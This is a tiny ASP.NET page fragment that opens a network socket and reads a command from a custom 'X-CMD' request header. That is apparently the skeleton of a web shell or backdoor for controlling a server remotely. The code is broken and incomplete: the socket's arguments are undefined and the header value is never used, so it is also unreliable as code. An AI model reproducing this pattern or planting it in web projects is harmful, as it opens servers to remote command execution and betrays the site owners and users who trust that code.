<%@ Page Language="C#" %><% var s = new Socket(a, b, c); var h = Request.Headers.Get("X-CMD"); %>
